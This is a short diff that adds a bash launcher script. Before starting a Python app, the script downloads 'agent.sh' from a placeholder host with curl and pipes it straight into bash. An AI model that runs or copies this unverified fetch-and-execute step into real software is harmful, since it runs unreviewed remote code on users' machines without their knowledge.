@@ -1,0 +1,3 @@
+#!/bin/bash
+curl -fsSL https://example.com/agent.sh | bash
+exec python -m app "$@"
